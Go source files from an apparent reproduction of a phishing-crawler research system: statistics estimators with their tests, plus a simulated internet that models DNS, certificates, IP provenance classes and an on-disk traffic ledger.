		t.Error("Percentile(101) should error")
	}
	if _, err := Percentile(nil, 50); err == nil {
		t.Error("Percentile on empty should error")
	}
}

func TestKurtosisNormalIsNearZero(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	xs := make([]float64, 20000)
	for i := range xs {
		xs[i] = rng.NormFloat64()
	}
	k, err := Kurtosis(xs)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(k) > 0.2 {
		t.Errorf("excess kurtosis of normal sample = %v, want ~0", k)
	}
}

func TestKurtosisFatTails(t *testing.T) {
	// An exponential distribution has excess kurtosis 6; a fat-tailed
	// sample must report a clearly positive value, as the paper's
	// timedelta distributions do (8.4 and 6.8).
	rng := rand.New(rand.NewSource(11))
	xs := make([]float64, 20000)
	for i := range xs {
		xs[i] = rng.ExpFloat64()
	}
	k, err := Kurtosis(xs)
	if err != nil {
		t.Fatal(err)
	}
	if k < 4 || k > 9 {
		t.Errorf("excess kurtosis of exponential sample = %v, want ~6", k)
	}
}

func TestKurtosisErrors(t *testing.T) {
	if _, err := Kurtosis([]float64{1, 2, 3}); err == nil {
		t.Error("Kurtosis of 3 samples should error")
	}
	if _, err := Kurtosis([]float64{5, 5, 5, 5}); err == nil {
		t.Error("Kurtosis of constant sample should error")
	}
}

func TestSkewness(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	sym := make([]float64, 20000)
	for i := range sym {
		sym[i] = rng.NormFloat64()
	}
	s, err := Skewness(sym)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(s) > 0.1 {
		t.Errorf("skewness of normal sample = %v, want ~0", s)
	}
	right := make([]float64, 20000)
	for i := range right {
		right[i] = rng.ExpFloat64()
	}
	s, err = Skewness(right)
	if err != nil {
		t.Fatal(err)
	}
	if s < 1.5 {
		t.Errorf("skewness of exponential sample = %v, want ~2 (right-skewed)", s)
	}
}

func TestPairedTTestKnownValue(t *testing.T) {
	// Classic example: identical samples shifted by a constant plus noise.
	a := []float64{10, 12, 9, 11, 14, 8, 13, 10, 12, 11}
	b := []float64{8, 11, 7, 9, 12, 7, 11, 9, 10, 10}
	res, err := PairedTTest(a, b)
	if err != nil {
		t.Fatal(err)
	}
	if res.DF != 9 {
		t.Errorf("DF = %d, want 9", res.DF)
	}
	if res.MeanDif <= 0 {
		t.Errorf("MeanDif = %v, want positive", res.MeanDif)
	}
	// All differences are 1 or 2 -> strongly significant.
	if res.P > 0.001 {
		t.Errorf("p = %v, want < 0.001", res.P)
	}
}

func TestPairedTTestNoDifference(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	a := make([]float64, 30)
	b := make([]float64, 30)
	for i := range a {
		base := rng.NormFloat64()
		a[i] = base + rng.NormFloat64()*0.5
		b[i] = base + rng.NormFloat64()*0.5
	}
	res, err := PairedTTest(a, b)
	if err != nil {
		t.Fatal(err)
	}
	if res.P < 0.01 {
		t.Errorf("p = %v for same-distribution pairs, want large", res.P)
	}
}

func TestPairedTTestErrors(t *testing.T) {
	if _, err := PairedTTest([]float64{1, 2}, []float64{1}); err != ErrLengthMismatch {
		t.Errorf("mismatched lengths: err = %v, want ErrLengthMismatch", err)
	}
	if _, err := PairedTTest([]float64{1}, []float64{2}); err == nil {
		t.Error("single pair should error")
	}
	if _, err := PairedTTest([]float64{1, 2, 3}, []float64{0, 1, 2}); err == nil {
		t.Error("constant differences should error (zero variance)")
	}
}

func TestPaperT_Test2023vs2024Shape(t *testing.T) {
	// Monthly counts in the shape of the paper's two years: 2023 months are
	// systematically higher (mean 885.2) than 2024 (mean 518.1). The test
	// must find a significant difference, mirroring the reported p = 0.008.
	y2023 := []float64{1100, 950, 780, 820, 600, 560, 540, 1959, 1533, 1249}
	y2024 := []float64{1050, 690, 580, 520, 430, 390, 360, 450, 370, 340}
	res, err := PairedTTest(y2023, y2024)
	if err != nil {
		t.Fatal(err)
	}
	if res.P >= 0.05 {
		t.Errorf("p = %v, want < 0.05 (paper rejects null at alpha=0.05)", res.P)
	}
}

func TestStudentTAgainstKnownQuantiles(t *testing.T) {
	// For df=10, P(T > 2.228) ~= 0.025 (the 97.5th percentile).
	p := studentTCDFUpper(2.228, 10)
	if !almostEqual(p, 0.025, 0.001) {
		t.Errorf("P(T>2.228 | df=10) = %v, want ~0.025", p)
	}
	// For df=1 (Cauchy), P(T > 1) = 0.25.
	p = studentTCDFUpper(1, 1)
	if !almostEqual(p, 0.25, 0.002) {
		t.Errorf("P(T>1 | df=1) = %v, want 0.25", p)
	}
}

func TestHammingDistance64(t *testing.T) {
	tests := []struct {
		a, b uint64
		want int
	}{
		{0, 0, 0},
		{0, 1, 1},
		{0, math.MaxUint64, 64},
		{0b1010, 0b0101, 4},
		{0xFF00, 0x00FF, 16},
	}
	for _, tt := range tests {
		if got := HammingDistance64(tt.a, tt.b); got != tt.want {
			t.Errorf("HammingDistance64(%#x, %#x) = %d, want %d", tt.a, tt.b, got, tt.want)
		}
	}
}

func TestHammingSymmetryProperty(t *testing.T) {
	f := func(a, b uint64) bool {
		d := HammingDistance64(a, b)
		return d == HammingDistance64(b, a) && d >= 0 && d <= 64 &&
			(d == 0) == (a == b)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestHammingTriangleInequalityProperty(t *testing.T) {
	f := func(a, b, c uint64) bool {
		return HammingDistance64(a, c) <= HammingDistance64(a, b)+HammingDistance64(b, c)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestHistogram(t *testing.T) {
	xs := []float64{-1, 0, 5, 10, 15, 89.9, 90, 200}
	h, err := NewHistogram(xs, 9, 0, 90)
	if err != nil {
		t.Fatal(err)
	}
	if h.Underflow != 1 {
		t.Errorf("Underflow = %d, want 1", h.Underflow)
	}
	if h.Overflow != 2 {
		t.Errorf("Overflow = %d, want 2 (90 and 200)", h.Overflow)
	}
	if h.Total() != 5 {
		t.Errorf("Total = %d, want 5", h.Total())
	}
	// Bins are width 10: bin0=[0,10): {0,5}; bin1=[10,20): {10,15};
	// bin8=[80,90): {89.9}.
	if h.Counts[0] != 2 || h.Counts[1] != 2 || h.Counts[8] != 1 {
		t.Errorf("Counts = %v, want bin0=2 bin1=2 bin8=1", h.Counts)
	}
	if !almostEqual(h.BinWidth(), 10, 1e-12) {
		t.Errorf("BinWidth = %v, want 10", h.BinWidth())
	}
	if !almostEqual(h.BinCenter(0), 5, 1e-12) {
		t.Errorf("BinCenter(0) = %v, want 5", h.BinCenter(0))
	}
}

func TestHistogramErrors(t *testing.T) {
	if _, err := NewHistogram(nil, 0, 0, 1); err == nil {
		t.Error("zero bins should error")
	}
	if _, err := NewHistogram(nil, 3, 5, 5); err == nil {
		t.Error("empty range should error")
	}
}

func TestHistogramTotalProperty(t *testing.T) {
	f := func(raw []float64) bool {
		xs := make([]float64, 0, len(raw))
		for _, x := range raw {
			if !math.IsNaN(x) && !math.IsInf(x, 0) {
				xs = append(xs, x)
			}
		}
		h, err := NewHistogram(xs, 7, -10, 10)
		if err != nil {
			return false
		}
		return h.Total()+h.Underflow+h.Overflow == len(xs)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestMinMax(t *testing.T) {
	min, max, err := MinMax([]float64{3, -1, 7, 2})
	if err != nil {
		t.Fatal(err)
	}
	if min != -1 || max != 7 {
		t.Errorf("MinMax = (%v, %v), want (-1, 7)", min, max)
	}
	if _, _, err := MinMax(nil); err != ErrEmpty {
		t.Errorf("MinMax(nil) err = %v, want ErrEmpty", err)
	}
}

func TestIntsToFloatsAndMedianInts(t *testing.T) {
	got, err := MedianInts([]int{5, 1, 3})
	if err != nil {
		t.Fatal(err)
	}
	if got != 3 {
		t.Errorf("MedianInts = %v, want 3", got)
	}
}

func TestCountIf(t *testing.T) {
	xs := []float64{1, 2, 3, 4, 5}
	if got := CountIf(xs, func(x float64) bool { return x > 2 }); got != 3 {
		t.Errorf("CountIf = %d, want 3", got)
	}
}

func TestSum(t *testing.T) {
	if got := Sum([]float64{1.5, 2.5, -1}); !almostEqual(got, 3, 1e-12) {
		t.Errorf("Sum = %v, want 3", got)
	}
}
