// Package stats provides the statistical estimators used throughout the
// CrawlerBox reproduction: central moments (mean, variance, skewness,
// kurtosis), order statistics (median, percentiles), a paired-samples
// t-test, histogram construction, and Hamming distance on bit strings.
//
// The paper reports a handful of specific statistics that these functions
// regenerate: monthly message means and standard deviations (Figure 2), the
// paired t-test between the 2023 and 2024 monthly series (p = 0.008), the
// kurtosis of the deployment-timeline distributions (8.4 and 6.8 for
// timedeltaA and timedeltaB), and medians of DNS query volumes.
package stats

import (
	"errors"
	"fmt"
	"math"
	"math/bits"
	"sort"
)

// ErrEmpty is returned by estimators that are undefined on empty samples.
var ErrEmpty = errors.New("stats: empty sample")

// ErrLengthMismatch is returned by paired tests when the two samples have
// different lengths.
var ErrLengthMismatch = errors.New("stats: sample length mismatch")

// Mean returns the arithmetic mean of xs. It returns 0 for an empty slice.
func Mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	var sum float64
	for _, x := range xs {
		sum += x
	}
	return sum / float64(len(xs))
}

// Variance returns the unbiased (n-1 denominator) sample variance of xs.
// Samples of size < 2 have zero variance by convention.
func Variance(xs []float64) float64 {
	n := len(xs)
	if n < 2 {
		return 0
	}
	m := Mean(xs)
	var ss float64
	for _, x := range xs {
		d := x - m
		ss += d * d
	}
	return ss / float64(n-1)
}

// StdDev returns the unbiased sample standard deviation of xs.
func StdDev(xs []float64) float64 {
	return math.Sqrt(Variance(xs))
}

// Median returns the median of xs without mutating it.
func Median(xs []float64) (float64, error) {
	if len(xs) == 0 {
		return 0, ErrEmpty
	}
	cp := make([]float64, len(xs))
	copy(cp, xs)
	sort.Float64s(cp)
	n := len(cp)
	if n%2 == 1 {
		return cp[n/2], nil
	}
	return (cp[n/2-1] + cp[n/2]) / 2, nil
}

// Percentile returns the p-th percentile (0 <= p <= 100) of xs using linear
// interpolation between closest ranks, matching the common "exclusive of
// extremes" definition used by numpy's default.
func Percentile(xs []float64, p float64) (float64, error) {
	if len(xs) == 0 {
		return 0, ErrEmpty
	}
	if p < 0 || p > 100 {
		return 0, fmt.Errorf("stats: percentile %v out of range [0,100]", p)
	}
	cp := make([]float64, len(xs))
	copy(cp, xs)
	sort.Float64s(cp)
	if len(cp) == 1 {
		return cp[0], nil
	}
	rank := p / 100 * float64(len(cp)-1)
	lo := int(math.Floor(rank))
	hi := int(math.Ceil(rank))
	if lo == hi {
		return cp[lo], nil
	}
	frac := rank - float64(lo)
	return cp[lo]*(1-frac) + cp[hi]*frac, nil
}

// Kurtosis returns the sample excess kurtosis of xs using the standard
// bias-corrected estimator (the same one SciPy reports with fisher=true and
// bias=false). Fat-tailed distributions such as the paper's deployment
// timelines yield large positive values (8.4 and 6.8 in the paper).
func Kurtosis(xs []float64) (float64, error) {
	n := float64(len(xs))
	if n < 4 {
		return 0, fmt.Errorf("stats: kurtosis needs >= 4 samples, have %d", len(xs))
	}
	m := Mean(xs)
	var m2, m4 float64
	for _, x := range xs {
		d := x - m
		m2 += d * d
		m4 += d * d * d * d
	}
	m2 /= n
	m4 /= n
	if m2 == 0 {
		return 0, errors.New("stats: kurtosis undefined for zero-variance sample")
	}
	g2 := m4/(m2*m2) - 3
	// Bias correction.
	k := ((n+1)*g2 + 6) * (n - 1) / ((n - 2) * (n - 3))
	return k, nil
}

// Skewness returns the adjusted Fisher–Pearson standardized moment
// coefficient (the bias-corrected sample skewness).
func Skewness(xs []float64) (float64, error) {
	n := float64(len(xs))
	if n < 3 {
		return 0, fmt.Errorf("stats: skewness needs >= 3 samples, have %d", len(xs))
	}
	m := Mean(xs)
	var m2, m3 float64
	for _, x := range xs {
		d := x - m
		m2 += d * d
		m3 += d * d * d
	}
	m2 /= n
	m3 /= n
	if m2 == 0 {
		return 0, errors.New("stats: skewness undefined for zero-variance sample")
	}
	g1 := m3 / math.Pow(m2, 1.5)
	return g1 * math.Sqrt(n*(n-1)) / (n - 2), nil
}

// TTestResult holds the outcome of a paired-samples t-test.
type TTestResult struct {
	T       float64 // t statistic
	DF      int     // degrees of freedom (n - 1)
	P       float64 // two-tailed p-value
	MeanA   float64
	MeanB   float64
	MeanDif float64
}

// PairedTTest runs a paired-samples (dependent) two-tailed t-test between a
// and b. The paper applies this to the 2023 vs 2024 monthly phishing counts
// and reports p = 0.008.
func PairedTTest(a, b []float64) (TTestResult, error) {
	if len(a) != len(b) {
		return TTestResult{}, ErrLengthMismatch
	}
	n := len(a)
	if n < 2 {
		return TTestResult{}, fmt.Errorf("stats: paired t-test needs >= 2 pairs, have %d", n)
	}
	diffs := make([]float64, n)
	for i := range a {
		diffs[i] = a[i] - b[i]
	}
	md := Mean(diffs)
	sd := StdDev(diffs)
	if sd == 0 {
		return TTestResult{}, errors.New("stats: paired t-test undefined for zero-variance differences")
	}
	t := md / (sd / math.Sqrt(float64(n)))
	df := n - 1
	p := 2 * studentTCDFUpper(math.Abs(t), float64(df))
	return TTestResult{
		T:       t,
		DF:      df,
		P:       p,
		MeanA:   Mean(a),
		MeanB:   Mean(b),
		MeanDif: md,
	}, nil
}

// studentTCDFUpper returns P(T > t) for Student's t distribution with df
// degrees of freedom, via the regularized incomplete beta function.
func studentTCDFUpper(t, df float64) float64 {
	if t <= 0 {
		return 0.5
	}
	x := df / (df + t*t)
	return 0.5 * regIncBeta(df/2, 0.5, x)
}

// regIncBeta computes the regularized incomplete beta function I_x(a, b)
// using the continued-fraction expansion from Numerical Recipes.
func regIncBeta(a, b, x float64) float64 {
	if x <= 0 {
		return 0
	}
	if x >= 1 {
		return 1
	}
	lbeta := lgamma(a+b) - lgamma(a) - lgamma(b)
	front := math.Exp(math.Log(x)*a+math.Log(1-x)*b+lbeta) / a
	if x > (a+1)/(a+b+2) {
		return 1 - regIncBeta(b, a, 1-x)
	}
	// Lentz's algorithm for the continued fraction.
	const (
		maxIter = 300
		eps     = 1e-14
		tiny    = 1e-30
	)
	f, c, d := 1.0, 1.0, 0.0
	for i := 0; i <= maxIter; i++ {
		m := i / 2
		var numerator float64
		switch {
		case i == 0:
			numerator = 1
		case i%2 == 0:
			numerator = float64(m) * (b - float64(m)) * x / ((a + 2*float64(m) - 1) * (a + 2*float64(m)))
		default:
			numerator = -(a + float64(m)) * (a + b + float64(m)) * x / ((a + 2*float64(m)) * (a + 2*float64(m) + 1))
		}
		d = 1 + numerator*d
		if math.Abs(d) < tiny {
			d = tiny
		}
		d = 1 / d
		c = 1 + numerator/c
		if math.Abs(c) < tiny {
			c = tiny
		}
		f *= c * d
		if math.Abs(1-c*d) < eps {
			break
		}
	}
	return front * (f - 1)
}

func lgamma(x float64) float64 {
	v, _ := math.Lgamma(x)
	return v
}

// HammingDistance64 returns the number of differing bits between two 64-bit
// hashes, used to compare pHash/dHash values.
func HammingDistance64(a, b uint64) int {
	return bits.OnesCount64(a ^ b)
}

// Histogram is a fixed-width-bin histogram over a half-open range
// [Min, Max); values outside the range are counted in Underflow/Overflow.
type Histogram struct {
	Min, Max  float64
	Counts    []int
	Underflow int
	Overflow  int
}

// NewHistogram builds a histogram of xs with the given number of equal-width
// bins covering [min, max).
func NewHistogram(xs []float64, bins int, min, max float64) (*Histogram, error) {
	if bins <= 0 {
		return nil, fmt.Errorf("stats: histogram needs positive bin count, got %d", bins)
	}
	if max <= min {
		return nil, fmt.Errorf("stats: histogram range [%v, %v) is empty", min, max)
	}
	h := &Histogram{Min: min, Max: max, Counts: make([]int, bins)}
	width := (max - min) / float64(bins)
	for _, x := range xs {
		switch {
		case x < min:
			h.Underflow++
		case x >= max:
			h.Overflow++
		default:
			idx := int((x - min) / width)
			if idx >= bins { // guard float edge cases
				idx = bins - 1
			}
			h.Counts[idx]++
		}
	}
	return h, nil
}

// BinWidth returns the width of each bin.
func (h *Histogram) BinWidth() float64 {
	return (h.Max - h.Min) / float64(len(h.Counts))
}

// BinCenter returns the center value of bin i.
func (h *Histogram) BinCenter(i int) float64 {
	return h.Min + (float64(i)+0.5)*h.BinWidth()
}

// Total returns the number of in-range observations.
func (h *Histogram) Total() int {
	var t int
	for _, c := range h.Counts {
		t += c
	}
	return t
}

// IntsToFloats converts an int slice to float64 for use with the estimators.
func IntsToFloats(xs []int) []float64 {
	out := make([]float64, len(xs))
	for i, x := range xs {
		out[i] = float64(x)
	}
	return out
}

// MedianInts is a convenience wrapper around Median for integer samples.
func MedianInts(xs []int) (float64, error) {
	return Median(IntsToFloats(xs))
}

// MinMax returns the smallest and largest values in xs.
func MinMax(xs []float64) (min, max float64, err error) {
	if len(xs) == 0 {
		return 0, 0, ErrEmpty
	}
	min, max = xs[0], xs[0]
	for _, x := range xs[1:] {
		if x < min {
			min = x
		}
		if x > max {
			max = x
		}
	}
	return min, max, nil
}

// Sum returns the sum of xs.
func Sum(xs []float64) float64 {
	var s float64
	for _, x := range xs {
		s += x
	}
	return s
}

// CountIf returns how many elements satisfy pred.
func CountIf(xs []float64, pred func(float64) bool) int {
	var n int
	for _, x := range xs {
		if pred(x) {
			n++
		}
	}
	return n
}
