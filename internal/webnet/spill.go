package webnet

import (
	"encoding/binary"
	"fmt"
	"sort"
	"time"

	"crawlerbox/internal/evstore"
)

// SpillTrafficTo switches the Internet's exchange ledger to an on-disk
// evidence store: every logged exchange is encoded as one KindExchange
// record instead of growing the in-RAM traffic log, so a million-message
// run keeps O(1) traffic state in memory — only a count stays resident.
// Resolve likewise folds live passive-DNS observations into per-host-day
// aggregates instead of appending one QueryRecord per lookup.
//
// Call it before traffic flows; exchanges already logged in RAM stay
// there and keep being served alongside the spilled ones is NOT supported —
// the switch must happen on an empty ledger. The traffic accessors
// (Traffic, EachTraffic, TrafficTo, ...) work unchanged, decoding records
// on demand; the per-host views scan the store rather than consult an
// in-RAM index, trading read speed (they are post-run reporting paths)
// for a resident footprint independent of traffic volume.
func (n *Internet) SpillTrafficTo(store *evstore.Store) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.spill = store
}

// spillExchange encodes and appends one exchange while n.mu is held, so
// records land in log order. Lock order is always Internet.mu then
// Store.mu; the store never calls back into the Internet.
func (n *Internet) spillExchangeLocked(e *LoggedExchange) {
	//cblint:ignore guarded the sole caller (logExchange) holds n.mu across the call
	_, err := n.spill.Append(evstore.KindExchange, encodeExchange(e))
	if err != nil {
		// A failed spill (disk full, store closed) drops the exchange from
		// the ledger but must not take the simulated network down with it;
		// surface the loss on the metrics stream instead.
		n.Metrics.Inc("webnet_traffic_spill_errors_total")
		return
	}
	//cblint:ignore guarded the sole caller (logExchange) holds n.mu across the call
	n.spilled++
}

// encodeExchange flattens one exchange for the evidence store. Only the
// observable fields travel: the Request's Clock/Trace/Faults plumbing is
// per-round-trip context, meaningless after the fact. Header keys are
// sorted so equal exchanges encode to equal bytes.
func encodeExchange(e *LoggedExchange) []byte {
	buf := appendSpillString(nil, e.Request.Method)
	buf = appendSpillString(buf, e.Request.Host)
	buf = appendSpillString(buf, e.Request.Path)
	buf = appendSpillString(buf, e.Request.RawQuery)
	keys := make([]string, 0, len(e.Request.Headers))
	for k := range e.Request.Headers {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	buf = binary.AppendUvarint(buf, uint64(len(keys)))
	for _, k := range keys {
		buf = appendSpillString(buf, k)
		buf = appendSpillString(buf, e.Request.Headers[k])
	}
	buf = appendSpillString(buf, e.Request.Body)
	buf = appendSpillString(buf, e.Request.ClientIP)
	buf = appendSpillString(buf, e.Request.TLSFingerprint)
	buf = binary.AppendUvarint(buf, uint64(e.Status))
	buf = binary.AppendVarint(buf, e.At.UnixNano())
	return buf
}

// decodeExchange parses a spilled exchange record.
func decodeExchange(payload []byte) (LoggedExchange, error) {
	d := spillDecoder{buf: payload}
	var e LoggedExchange
	e.Request.Method = d.string()
	e.Request.Host = d.string()
	e.Request.Path = d.string()
	e.Request.RawQuery = d.string()
	nh := d.uvarint()
	if nh > uint64(len(payload)) {
		return e, fmt.Errorf("webnet: exchange claims %d headers in %d bytes", nh, len(payload))
	}
	if nh > 0 {
		e.Request.Headers = make(map[string]string, nh)
		for i := uint64(0); i < nh && d.err == nil; i++ {
			k := d.string()
			e.Request.Headers[k] = d.string()
		}
	}
	e.Request.Body = d.string()
	e.Request.ClientIP = d.string()
	e.Request.TLSFingerprint = d.string()
	e.Status = int(d.uvarint())
	e.At = time.Unix(0, d.varint()).UTC()
	if d.err != nil {
		return LoggedExchange{}, d.err
	}
	return e, nil
}

func appendSpillString(buf []byte, s string) []byte {
	buf = binary.AppendUvarint(buf, uint64(len(s)))
	return append(buf, s...)
}

// spillDecoder mirrors the encoder's primitives, latching the first error.
type spillDecoder struct {
	buf []byte
	err error
}

func (d *spillDecoder) fail() {
	if d.err == nil {
		d.err = fmt.Errorf("webnet: truncated exchange record")
	}
}

func (d *spillDecoder) uvarint() uint64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Uvarint(d.buf)
	if n <= 0 {
		d.fail()
		return 0
	}
	d.buf = d.buf[n:]
	return v
}

func (d *spillDecoder) varint() int64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Varint(d.buf)
	if n <= 0 {
		d.fail()
		return 0
	}
	d.buf = d.buf[n:]
	return v
}

func (d *spillDecoder) string() string {
	n := d.uvarint()
	if d.err != nil {
		return ""
	}
	if n > uint64(len(d.buf)) {
		d.fail()
		return ""
	}
	s := string(d.buf[:n])
	d.buf = d.buf[n:]
	return s
}
