package webnet

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"crawlerbox/internal/evstore"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/resilience"
)

// IPClass is the provenance class of an IP address — the attribute
// server-side cloaking and commercial WAFs key on (datacenter and
// security-vendor ranges are blocked; residential and mobile pass).
type IPClass int

// IP provenance classes.
const (
	IPResidential IPClass = iota + 1
	IPMobile
	IPDatacenter
	IPSecurityVendor
)

// String names the class.
func (c IPClass) String() string {
	switch c {
	case IPResidential:
		return "residential"
	case IPMobile:
		return "mobile"
	case IPDatacenter:
		return "datacenter"
	case IPSecurityVendor:
		return "security-vendor"
	default:
		return "unknown"
	}
}

// Errors surfaced by the network simulation.
var (
	// ErrNXDomain indicates the host has no DNS record.
	ErrNXDomain = errors.New("webnet: NXDOMAIN")
	// ErrUnreachable indicates the host resolves but nothing answers.
	ErrUnreachable = errors.New("webnet: host unreachable")
	// ErrTimeout indicates the server accepted the connection but never
	// responded (a hung or tarpitted endpoint).
	ErrTimeout = errors.New("webnet: request timed out")
	// ErrReset indicates the connection was established and then torn down
	// before a response arrived (an injected transient reset).
	ErrReset = errors.New("webnet: connection reset")
)

// Certificate is one TLS certificate record, also the CT log entry shape.
type Certificate struct {
	Host      string
	Issuer    string
	IssuedAt  time.Time
	NotAfter  time.Time
	SerialNum int
}

// QueryRecord is one passive-DNS observation.
type QueryRecord struct {
	Host string
	At   time.Time
	From string // resolver client IP
}

// Request is a simulated HTTP request.
type Request struct {
	Method   string
	Host     string
	Path     string
	RawQuery string
	Headers  map[string]string
	Body     string
	ClientIP string
	// TLSFingerprint is a JA3-style client fingerprint string; WAFs use
	// it to distinguish browser TLS stacks from tool stacks.
	TLSFingerprint string
	// Clock, when set, carries the caller's virtual clock: latency is
	// charged to it and the exchange is timestamped from it instead of the
	// Internet's shared clock. Concurrent analyses each carry their own
	// forked clock so round trips in one never advance time in another.
	Clock *Clock
	// Trace, when set, records a request span (plus a nested DNS span) for
	// this round trip. Span timestamps read the same clock the latency is
	// charged to — the per-request Clock override when present — so a
	// forked-clock visit's span timeline matches its analysis baseline.
	Trace *obs.Trace
	// Faults, when set, is the caller's per-analysis resilience session:
	// its seeded schedule may replace this round trip with a transient
	// fault (DNS flap, reset, slow start, 5xx). The draw consumes the
	// session's deterministic stream, so injected faults depend only on the
	// message seed and the analysis's own request order — never on other
	// analyses — preserving byte-identical corpus runs at any worker count.
	Faults *resilience.Session
}

// Header returns a request header (case-insensitive).
func (r *Request) Header(name string) string {
	return headerLookup(r.Headers, name)
}

// URL reassembles the absolute URL.
func (r *Request) URL() string {
	u := "https://" + r.Host + r.Path
	if r.RawQuery != "" {
		u += "?" + r.RawQuery
	}
	return u
}

// Response is a simulated HTTP response. A nil Response from a handler
// models a hung connection and surfaces as ErrTimeout.
type Response struct {
	Status  int
	Headers map[string]string
	Body    []byte
}

// Header returns a response header (case-insensitive).
func (r *Response) Header(name string) string {
	return headerLookup(r.Headers, name)
}

// headerLookup finds a header value case-insensitively. An exact-case hit
// returns immediately; otherwise the folded matches are sorted so that when
// a map carries several casings of one header, the winner does not depend
// on map iteration order.
func headerLookup(headers map[string]string, name string) string {
	if v, ok := headers[name]; ok {
		return v
	}
	var matches []string
	for k := range headers {
		if strings.EqualFold(k, name) {
			matches = append(matches, k)
		}
	}
	if len(matches) == 0 {
		return ""
	}
	sort.Strings(matches)
	return headers[matches[0]]
}

// Handler serves simulated requests.
type Handler func(*Request) *Response

// Internet is the simulated network fabric.
type Internet struct {
	Clock *Clock
	// Metrics, when set, receives per-request counters and latency
	// histograms (webnet_requests_total, webnet_response_bytes_total,
	// webnet_dns_queries_total, webnet_request_latency_ns, ...). Wire it
	// before traffic flows and leave it in place: every write is a
	// commutative add, so the exported snapshot is identical for any
	// worker interleaving.
	Metrics *obs.Registry

	mu        sync.Mutex
	dns       map[string]string         // guarded by mu
	ipClass   map[string]IPClass        // guarded by mu
	ipCountry map[string]string         // guarded by mu
	banners   map[string]string         // guarded by mu
	servers   map[string]Handler        // guarded by mu
	certs     map[string][]*Certificate // guarded by mu
	ctLog     []*Certificate            // guarded by mu
	queryLog  map[string][]QueryRecord  // guarded by mu
	queryAgg  map[string]map[string]int // guarded by mu
	// queryAggLive aggregates the crawler's own resolutions per host-day
	// when traffic spills to disk (default mode appends to queryLog
	// instead). Kept apart from queryAgg so BackgroundQueryVolume never
	// counts live lookups.
	queryAggLive map[string]map[string]int // guarded by mu
	nextIP       [4]int                    // guarded by mu
	nextSerial   int                       // guarded by mu
	// RequestLatency is the virtual time cost of one HTTP round trip.
	RequestLatency time.Duration
	// trafficLog records every request for referral analysis. It is
	// append-only: entries are never mutated once logged, which is what
	// makes the zero-copy EachTraffic/EachTrafficTo views safe.
	trafficLog []LoggedExchange // guarded by mu
	// trafficByHost indexes trafficLog positions by request host, so
	// per-host traffic queries touch only the matching entries instead of
	// scanning (or copying) the whole ledger.
	trafficByHost map[string][]int // guarded by mu
	// spill, when set via SpillTrafficTo, replaces the in-RAM ledgers:
	// exchanges append to the store and only their count stays resident.
	spill   *evstore.Store // guarded by mu
	spilled int            // guarded by mu
}

// LoggedExchange pairs a request with its response for traffic analysis.
type LoggedExchange struct {
	Request Request
	Status  int
	At      time.Time
}

// NewInternet returns an empty simulated internet on the given clock.
func NewInternet(clock *Clock) *Internet {
	return &Internet{
		Clock:          clock,
		dns:            map[string]string{},
		ipClass:        map[string]IPClass{},
		servers:        map[string]Handler{},
		certs:          map[string][]*Certificate{},
		queryLog:       map[string][]QueryRecord{},
		nextIP:         [4]int{198, 18, 0, 1},
		RequestLatency: 50 * time.Millisecond,
	}
}

// AllocateIP returns a fresh deterministic IP tagged with a class.
func (n *Internet) AllocateIP(class IPClass) string {
	n.mu.Lock()
	defer n.mu.Unlock()
	ip := fmt.Sprintf("%d.%d.%d.%d", n.nextIP[0], n.nextIP[1], n.nextIP[2], n.nextIP[3])
	n.nextIP[3]++
	if n.nextIP[3] > 254 {
		n.nextIP[3] = 1
		n.nextIP[2]++
	}
	if n.nextIP[2] > 254 {
		n.nextIP[2] = 0
		n.nextIP[1]++
	}
	n.ipClass[ip] = class
	return ip
}

// SeededIP derives a deterministic egress IP from a seed. Unlike
// AllocateIP — a shared counter whose assignment depends on allocation
// order — the address is a pure function of (class, seed), so concurrently
// analyzed messages get schedule-independent client IPs (the per-message
// seed streams key them). Each class maps to a disjoint block of the
// 100.64.0.0/10 CGNAT range, away from AllocateIP's 198.18.0.0/15 pool,
// so a cross-class seed collision can never relabel an address — which is
// also why the class needs no registration: ClassOf reads it back out of
// the block, and the ipClass map stays O(deployed hosts) instead of
// growing by one entry per analyzed message.
func (n *Internet) SeededIP(class IPClass, seed int64) string {
	h := uint64(seed) * 0x9e3779b97f4a7c15
	h ^= h >> 29
	h *= 0xbf58476d1ce4e5b9
	h ^= h >> 32
	second := 64 + 32*int(class-IPResidential) + int(h%32)
	third := int((h >> 8) % 256)
	fourth := 1 + int((h>>16)%254)
	return fmt.Sprintf("100.%d.%d.%d", second, third, fourth)
}

// seededClassOf inverts SeededIP's block layout: a 100.x address inside
// the seeded CGNAT blocks carries its class in the second octet. ok is
// false for every other address.
func seededClassOf(ip string) (IPClass, bool) {
	rest, found := strings.CutPrefix(ip, "100.")
	if !found {
		return 0, false
	}
	second, _, found := strings.Cut(rest, ".")
	if !found {
		return 0, false
	}
	v, err := strconv.Atoi(second)
	if err != nil || v < 64 || v >= 64+32*4 {
		return 0, false
	}
	return IPResidential + IPClass((v-64)/32), true
}

// SetBanner records a Shodan-style service banner for an IP.
func (n *Internet) SetBanner(ip, banner string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if n.banners == nil {
		n.banners = map[string]string{}
	}
	n.banners[ip] = banner
}

// BannerOf returns the service banner recorded for an IP, if any — the
// Shodan enrichment source of the paper's crawling phase.
func (n *Internet) BannerOf(ip string) (string, bool) {
	n.mu.Lock()
	defer n.mu.Unlock()
	b, ok := n.banners[ip]
	return b, ok
}

// SetIPCountry assigns a geolocation country code to an IP.
func (n *Internet) SetIPCountry(ip, country string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if n.ipCountry == nil {
		n.ipCountry = map[string]string{}
	}
	n.ipCountry[ip] = country
}

